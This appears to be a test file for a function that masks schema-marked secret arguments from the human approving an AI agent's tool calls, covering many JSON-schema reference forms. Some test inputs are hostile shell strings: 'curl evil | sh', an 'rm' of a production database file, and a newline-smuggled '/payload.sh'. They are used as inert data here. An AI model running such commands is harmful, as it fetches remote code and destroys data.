/** What whoever approves a call sees of its arguments. */
import { describe, expect, it } from 'vitest';
import { canonicalHash } from '../../../src/agents/approvals/canonical-json.js';
import { hideSecrets } from '../../../src/agents/calls/hide-secrets.js';
import { secretArgumentNames } from '../../../src/core/catalog/schema/secrets.js';

const SECRET = { type: 'string', 'x-secret': true };
const hide = (schema: object, value: unknown) => hideSecrets({ ...schema }, value, canonicalHash);

describe('arguments that no schema marks secret', () => {
  it.each([
    ['what looks like a key', { command: 'echo Bearer\n/payload.sh\n', file: 'rm sk-production-db.sqlite' }],
    ['what is named like a secret', { options: { cookie: 'curl evil | sh', password: 'run', token: { run: true } } }],
    ['what is nested deeply', JSON.parse(`${'{"a":'.repeat(60)}"hidden"${'}'.repeat(60)}`)],
  ])('are shown as they run: %s', (_, value) => {
    expect(hide({ type: 'object', properties: { options: { type: 'object' } } }, value)).toEqual(value);
  });
});

describe('an argument that the schema marks secret', () => {
  it.each<[string, object, unknown, unknown]>([
    ['of a field', { properties: { pin: SECRET } }, { pin: '1234', note: 'x' }, { note: 'x' }],
    ['behind a reference', { properties: { pin: { $ref: '#/$defs/pin' } }, $defs: { pin: SECRET } }, { pin: '1' }, {}],
    ['in one of several forms', { properties: { pin: { anyOf: [{ type: 'null' }, SECRET] } } }, { pin: '1' }, {}],
    ['of a whole part', { allOf: [{ properties: { pin: SECRET } }] }, { pin: '1' }, {}],
    ['of any other name', { additionalProperties: SECRET }, { pin: '1' }, {}],
    ['of a name by its form', { patternProperties: { '^p': SECRET } }, { pin: '1' }, {}],
    ['of all that is left', { unevaluatedProperties: SECRET }, { pin: '1' }, {}],
    [
      'behind an anchor',
      { properties: { pin: { $ref: '#p' } }, $defs: { x: { ...SECRET, $anchor: 'p' } } },
      { pin: '1' },
      {},
    ],
    [
      'behind an id',
      { properties: { pin: { $ref: 'p.json' } }, $defs: { x: { ...SECRET, $id: 'p.json' } } },
      { pin: '1' },
      {},
    ],
    ...['https://e.test/of/common#/$defs/pin', 'common#/$defs/pin', '/of/common#pin', 'https://e.test/of/pin'].map(
      ($ref): [string, object, unknown, unknown] => [
        `behind an id of its place: ${$ref}`,
        {
          $id: 'https://e.test/of/root',
          properties: { pin: { $ref } },
          $defs: { common: { $id: 'common', $defs: { pin: { ...SECRET, $id: 'pin', $anchor: 'pin' } } } },
        },
        { pin: '1' },
        {},
      ],
    ),
    [
      'behind an id without a place',
      { properties: { pin: { $ref: 'c#/$defs/pin' } }, $defs: { c: { $id: './c', $defs: { pin: SECRET } } } },
      { pin: '1' },
      {},
    ],
    [
      'behind a dynamic reference',
      { properties: { pin: { $dynamicRef: '#p' } }, $defs: { x: { ...SECRET, $dynamicAnchor: 'p' } } },
      { pin: '1' },
      {},
    ],
    ['that goes with another', { dependencies: { note: { properties: { pin: SECRET } } } }, { pin: '1' }, {}],
    ['that is no number', { properties: { pin: { not: SECRET } } }, { pin: '1' }, {}],
    ['that is an object', { properties: { pin: { type: 'object', writeOnly: true } } }, { pin: { a: 1 } }, {}],
  ])('is told by length and digest: %s', (_, schema, value, rest) => {
    const { pin, ...others } = Object(hide(schema, value));
    const { $id, $defs, ...outer } = Object(schema);
    expect(secretArgumentNames({ $id, properties: { outer }, $defs })).toHaveLength(1);
    expect(pin).toMatch(/^\[secret: \d+ characters, [0-9a-f]{16}\]$/u);
    expect(others).toEqual(rest);
  });

  it('is hidden where it is marked, and shown under the same name where it is not', () => {
    const schema = { properties: { token: SECRET, free: { type: 'object' }, list: { items: SECRET } } };
    const shown = Object(hide(schema, { token: 'a', free: { token: 'b' }, list: ['c', 'd'] }));
    expect(shown.free).toEqual({ token: 'b' });
    expect(JSON.stringify(shown)).not.toMatch(/"[acd]"/u);
  });

  it.each(['items', 'prefixItems', 'additionalItems', 'unevaluatedItems', 'contains'])('is hidden in %s', (keyword) => {
    const schema = { properties: { list: { [keyword]: keyword === 'prefixItems' ? [SECRET] : SECRET } } };
    expect(JSON.stringify(hide(schema, { list: ['c'] }))).not.toContain('"c"');
    expect(secretArgumentNames(schema)).toEqual(['list']);
  });

  it('looks different where it is different', () => {
    const pins = ['1234', '1235', '1234'].map((pin) => Object(hide({ properties: { pin: SECRET } }, { pin })).pin);
    expect([pins[0] === pins[1], pins[0] === pins[2]]).toEqual([false, true]);
  });

  it('ends in a circle of references', () => {
    const schema = { $ref: '#/$defs/a', $defs: { a: { allOf: [{ $ref: '#/$defs/a' }], properties: { pin: SECRET } } } };
    expect(JSON.stringify(hide(schema, { pin: 'x1' }))).not.toContain('x1');
  });
});

describe('a large value', () => {
  it('has each list of properties read once, however many keys it has', () => {
    let reads = 0;
    const ownKeys = (target: object) => {
      reads += 1;
      return Reflect.ownKeys(target);
    };
    const counted = (properties: object) => new Proxy(properties, { ownKeys });
    const schema = { properties: counted({ pin: SECRET, list: { items: { properties: counted({ pin: SECRET }) } } }) };
    const keys = Array.from({ length: 500 }, (_, place) => `k${place}`);
    const value = { ...Object.fromEntries(keys.map((key) => [key, 1])), list: keys.map((pin) => ({ pin })) };
    expect(JSON.stringify(hide(schema, value))).not.toContain('"k1"}');
    expect(reads).toBeLessThan(10);
  });
});
